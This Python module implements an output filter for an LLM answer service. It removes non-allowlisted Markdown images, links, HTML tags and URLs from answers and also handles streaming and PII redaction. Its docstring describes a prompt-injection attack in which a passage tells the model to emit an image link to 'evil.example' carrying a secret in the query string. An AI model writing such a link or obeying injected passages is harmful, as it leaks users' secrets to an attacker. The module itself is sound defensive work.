"""The answer output filter: no image, link or URL to a host outside the allowlist.

A prompt-injected passage can tell a model to write ``![](https://evil.example/?q=<secret>)``;
a chat client rendering Markdown would fetch that image and leak the secret. So every answer
text (LLM and extractive, streamed and final) and every citation quote passes through
``OutputFilter.filter`` before it leaves the answer service.

Contract (``OutputFilter(allowlist).filter(text)``), applied until nothing changes:

* Markdown images ``![alt](url)`` are removed entirely unless ``url`` is allowed.
* Markdown links ``[text](url)`` are replaced by their (filtered) text unless ``url`` is
  allowed; a ``](url)`` left over from unbalanced brackets loses its ``(url)``.
* Autolinks ``<scheme:...>`` are removed unless allowed.
* HTML tags that can load or link anything (``img``, ``a``, ``iframe``, ``script``, ``style``,
  ``link``, ``svg``, ``video``, ``form``, ... and any tag carrying ``src=``, ``href=``,
  ``style=``, ``srcset=``, ``action=``, ``poster=``, ``background=``, ``data=``) are removed,
  whatever the host: answers are Markdown, not HTML. Their inner text stays.
* Bare URLs are removed unless allowed: ``scheme://...``, protocol-relative ``//host...``,
  ``www.host...``, ``javascript:``/``data:``/``vbscript:``/``file:``/``blob:`` URIs, and
  ``host.tld/path`` (a host with a public suffix followed by a path, port or query).
  A bare ``example.com`` without a path is left alone (GFM does not link it; ``Node.js`` and
  ``ASP.NET`` must survive).

A URL is *allowed* only when its scheme is http or https (``//host`` counts as https, ``www.``
as http) and its host matches ``security.output_url_allowlist``: ``example.com`` matches that
host exactly, ``.example.com`` matches it and every subdomain. Hosts are compared after
percent-decoding, lower-casing, dropping a trailing dot and IDNA (UTS #46) encoding, so an
allowlisted ``bücher.example`` matches ``xn--bcher-kva.example`` and a look-alike
(``еxample.com`` with a Cyrillic ``е``) never matches ``example.com``. Backslashes count as
``/`` (as browsers read them) and a ``user@`` part is not the host. Relative URLs have no
host: never allowed. An empty allowlist allows nothing.

Streaming (``StreamingOutputFilter``): text is released only up to a point where nothing
before it can still become part of an image, link, tag or URL, whatever comes next; the rest
is held until it completes or is clearly not one (``regex`` partial matching against the same
patterns). So no token event ever carries a disallowed URL, even when a model splits one
across tokens. More than ``max_hold`` held characters (an opening ``[`` or ``<`` never closed,
one run with no whitespace) are released filtered, with every ``[`` and ``<`` escaped
(``\\[``, ``&lt;``: Markdown renders the same characters, but they can no longer open a link
or tag) and a space after them, so nothing released can combine with later text; this bounds
the work per token. ``flush()`` releases the rest at the end of the stream.

Extractive answers quote passages verbatim and are filtered the same way (a passage can
carry the same injected image); retrieved passages themselves (search hits, the ``text`` of a
citation) are the caller's own readable documents and are returned as stored.
"""

from __future__ import annotations

import heapq
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

import regex

from groundwire.safety.url_patterns import (
    _CONTROL,
    _PATTERN,
    _SCHEME,
    _URL_ATTR,
    FETCH_TAGS,
    _tld_extract,
    _trim,
    normalize_host,
)

MAX_PASSES = 4


class OutputFilter:
    """See the module contract. Stateless and thread-safe; build once per app."""

    def __init__(self, allowlist: Iterable[str] = ()) -> None:
        self.exact: set[str] = set()
        self.suffixes: set[str] = set()
        for entry in allowlist:
            entry = entry.strip()
            wildcard = entry.startswith(".")
            host = normalize_host(entry.lstrip("."))
            if host is None:
                continue
            (self.suffixes if wildcard else self.exact).add(host)

    # ------------------------------------------------------------------ policy
    def host_allowed(self, host: str) -> bool:
        normal = normalize_host(host)
        if normal is None:
            return False
        if normal in self.exact or normal in self.suffixes:
            return True
        return any(normal.endswith("." + s) for s in self.suffixes)

    def url_allowed(self, url: str) -> bool:
        """True only for an http(s) URL whose host is on the allowlist."""
        if not (self.exact or self.suffixes):
            return False
        url = _CONTROL.sub("", url.strip().removeprefix("<").removesuffix(">"))
        url = url.replace("\\", "/")
        if url.startswith("//"):
            url = "https:" + url
        elif url.lower().startswith("www."):
            url = "http://" + url
        scheme = _SCHEME.match(url)
        if scheme is None or scheme.group(1).lower() not in ("http", "https"):
            return False
        try:
            host = urlsplit(url).hostname
        except ValueError:
            return False
        return host is not None and self.host_allowed(host)

    # ------------------------------------------------------------------ filtering
    def filter(self, text: str) -> str:
        """``text`` without disallowed images, links, tags and URLs (a fixed point)."""
        if not _TRIGGER.search(text):
            return text
        for _ in range(MAX_PASSES):
            out = _PATTERN.sub(self._replace, text)
            if out == text:
                return out
            text = out
        return text

    def _replace(self, m: Any) -> str:
        kind = m.lastgroup
        if kind == "image":
            if self.url_allowed(m.group("image_dest")):
                return "![" + self.filter(m.group("alt")) + "]" + m.group(0)[
                    m.end("alt") - m.start() + 1:]
            return ""
        if kind == "link":
            text = self.filter(m.group("text"))
            if self.url_allowed(m.group("link_dest")):
                return "[" + text + "]" + m.group(0)[m.end("text") - m.start() + 1:]
            return text
        if kind == "dangling":
            return m.group(0) if self.url_allowed(m.group("dangling_dest")) else "]"
        if kind == "autolink":
            return m.group(0) if self.url_allowed(m.group("auto")) else ""
        if kind == "tag":
            name = m.group("name").lower()
            if name in FETCH_TAGS or _URL_ATTR.search(m.group("attrs")):
                return ""
            return "<" + m.group("close") + m.group("name") + self.filter(m.group("attrs")) + ">"
        if kind == "url":
            url, tail = _trim(m.group(0))
            return m.group(0) if self.url_allowed(url) else tail
        # host with a path: only when the name ends in a public suffix
        url, tail = _trim(m.group(0))
        if not _tld_extract()(m.group("hostname")).suffix:
            return m.group(0)
        return m.group(0) if self.url_allowed("http://" + url) else tail



class StreamingOutputFilter:
    """``OutputFilter`` over a token stream: ``feed(text)`` returns what may be shown now,
    ``flush()`` the rest at the end, ``reset()`` drops held text (the stream restarted)."""

    def __init__(self, output_filter: OutputFilter, *, max_hold: int = 512) -> None:
        self._filter = output_filter
        self._max_hold = max_hold
        self._pending = ""

    def feed(self, text: str) -> str:
        if not text:
            return ""
        raw = self._pending + text
        # 1. Raw text that could still become (part of) a construct is held unfiltered, so
        #    a URL is judged whole, never cut into a removed head and a shown tail.
        cut = _open_from(raw)
        if cut == 0 and len(raw) > self._max_hold:
            # Too long to hold: release it with every "[" and "<" escaped and a separator
            # after it, so no link, tag or URL can span the release.
            self._pending = " "
            return self._filter.filter(_ESCAPE.sub(_escaped, raw))
        out = self._filter.filter(raw[:cut])
        # 2. What filtering left may itself end in an opening ("<im" + removed tag + "g"):
        #    hold that too, so nothing shown can combine with later text.
        hold = _open_from(out)
        self._pending = out[hold:] + raw[cut:]
        return out[:hold]

    def flush(self) -> str:
        out = self._filter.filter(self._pending)
        self._pending = ""
        return out

    def reset(self) -> None:
        self._pending = ""

    @property
    def held(self) -> str:
        return self._pending


# Where a construct that can contain whitespace may start (images, links, "](", tags);
# every other construct (URLs, hosts, autolinks) is a run without whitespace, so only the
# text's last two runs can hold one that reaches the end ("javascript :x" spans two).
_SPANNING_START = regex.compile(
    r"!(?=\[|\Z)|(?<!\\)\[(?=[^\[\]]*+(?:\]|\Z))|<(?=[^<>]*+(?:>|\Z))|\](?=\(|\Z)"
)  # a "[" or "<" followed by another one before it closes cannot open anything
# Where a construct without whitespace can start: "//", or a word start (all the others have
# lookbehinds refusing a word character before them).
_WORD_START = regex.compile(r"/(?=/(?:[\w\[]|\Z)|\Z)|(?<!\w)\w(?=[\w\-+]*+(?:[.:]|\s*+:|\Z))")
_LAST_SPACE = regex.compile(r"\s", regex.REVERSE)
# The last two whitespace-separated runs before ``endpos`` (searched from the end, in C).
_TAIL = regex.compile(r"\S*\s*\S*\Z", regex.REVERSE)


# Every construct needs one of these; text without any passes the filter unchanged.
_TRIGGER = regex.compile(r"[\[\]<:/?#]|www\.", regex.IGNORECASE)


_ESCAPE = regex.compile(r"(?<!\\)\[|<")


def _escaped(m: Any) -> str:
    return "\\[" if m.group(0) == "[" else "&lt;"


def _open_from(text: str, max_rounds: int = 8) -> int:
    """The smallest position from which ``text`` could still grow into an image, link, tag or
    URL: everything before it is final whatever follows. ``len(text)`` when nothing is open.

    A position is open when a pattern matches there only partially, or matches up to the very
    end (more text could extend it). Checked against every prefix we would release, so
    nothing released can combine with later text. Only positions that could reach the end
    are tried (``_SPANNING_START`` anywhere, ``_WORD_START`` in the last two runs), lazily in
    order, so a feed that holds a long run costs one match. Returns 0 (hold everything) when
    ``max_rounds`` cuts do not settle; the caller's ``max_hold`` bounds that."""
    end = len(text)
    for _ in range(max_rounds):  # each round may expose an opening before the last cut
        found = _first_open(text, end)
        if found == end:
            return end
        # Back off to a whitespace boundary: no URL- or host-shaped construct reaches it.
        space = _LAST_SPACE.search(text, 0, found)
        end = space.end() if space is not None else 0
        if end == 0:
            return 0
    return 0  # not settled ("[[[[..."): hold everything (bounded by max_hold)


def _first_open(text: str, end: int) -> int:
    tail = _TAIL.search(text, 0, end)
    tail_start = tail.start() if tail is not None else 0
    spanning = (m.start() for m in _SPANNING_START.finditer(text, 0, end))
    words = (m.start() for m in _WORD_START.finditer(text, tail_start, end))
    for start in heapq.merge(spanning, words):
        m = _PATTERN.match(text, pos=start, endpos=end, partial=True)
        if m is not None and (m.partial or m.end() == end):
            return start
    return end


# ---------------------------------------------------------------------- the answer's way out

_SENTENCE_END = regex.compile(r"[.!?][\"')\]]*\s+|\n")


class AnswerGuard:
    """Everything an answer shows passes here on its way out of the answer service: PII is
    redacted where the index's policy is ``redact_answers`` (``security.pii``), then the
    output filter removes disallowed images, links and URLs.

    ``answer(index, answer)`` sanitizes a final ``Answer``: its text, each citation's quote
    and passage text, the passages read and the per-sentence verification texts.
    ``stream(index)`` sanitizes streamed text (see ``AnswerStream``)."""

    def __init__(
        self, output_filter: OutputFilter, *, policy_for: Any = None,
        redact: Any = None,
    ) -> None:
        """``policy_for(index) -> "redact_index" | "redact_answers" | "allow"`` (default:
        allow); ``redact`` a blocking text redactor (default ``PiiDetector().redact``,
        built on first use)."""
        self.output_filter = output_filter
        self._policy_for = policy_for
        self._redactor = redact

    def redacts(self, index: str) -> bool:
        return self._policy_for is not None and self._policy_for(index) == "redact_answers"

    def warm(self) -> None:
        """Build the PII detector now (its first build imports Presidio: seconds)."""
        self.redact("")

    def redact(self, text: str) -> str:
        if self._redactor is None:
            from groundwire.safety.pii import PiiDetector

            self._redactor = PiiDetector().redact
        out: str = self._redactor(text)
        return out

    def text(self, index: str, text: str) -> str:
        if self.redacts(index):
            text = self.redact(text)
        return self.output_filter.filter(text)

    def answer(self, index: str, answer: Any) -> Any:
        """A copy of ``answer`` (``domain.Answer``) with every shown text sanitized."""
        from dataclasses import replace

        redacting = self.redacts(index)

        def hit(h: Any) -> Any:
            return replace(h, text=self.redact(h.text)) if redacting else h

        citations = tuple(
            replace(c, hit=hit(c.hit), quote=self.text(index, c.quote))
            for c in answer.citations
        )
        verification = tuple(
            {**v, "text": self.text(index, v["text"])} if isinstance(v.get("text"), str)
            else v for v in answer.verification
        )
        return replace(answer, text=self.text(index, answer.text), citations=citations,
                       hits=tuple(hit(h) for h in answer.hits), verification=verification)

    def stream(self, index: str, *, max_hold: int = 512) -> AnswerStream:
        return AnswerStream(StreamingOutputFilter(self.output_filter, max_hold=max_hold),
                            self.redact if self.redacts(index) else None,
                            max_hold=max_hold)


class AnswerStream:
    """Streamed answer text through the guard: ``feed`` returns what may be shown now,
    ``flush`` the rest, ``reset`` drops held text (the stream restarted). With PII redaction
    on, text is released a sentence at a time (a finding never spans a sentence end:
    ``. `` / ``! `` / ``? `` or a newline), redacted, then URL-filtered."""

    def __init__(self, urls: StreamingOutputFilter, redact: Any, *, max_hold: int) -> None:
        self._urls = urls
        self._redact = redact
        self._max_hold = max_hold
        self._sentence = ""

    def feed(self, text: str) -> str:
        if self._redact is None:
            return self._urls.feed(text)
        self._sentence += text
        cut = 0
        for m in _SENTENCE_END.finditer(self._sentence):
            cut = m.end()
        if cut == 0 and len(self._sentence) > self._max_hold:
            cut = self._sentence.rfind(" ") + 1 or len(self._sentence)
        if cut == 0:
            return ""
        ready, self._sentence = self._sentence[:cut], self._sentence[cut:]
        return self._urls.feed(self._redact(ready))

    def flush(self) -> str:
        rest = ""
        if self._sentence:
            rest = self._redact(self._sentence) if self._redact else self._sentence
            self._sentence = ""
        return self._urls.feed(rest) + self._urls.flush() if rest else self._urls.flush()

    def reset(self) -> None:
        self._sentence = ""
        self._urls.reset()
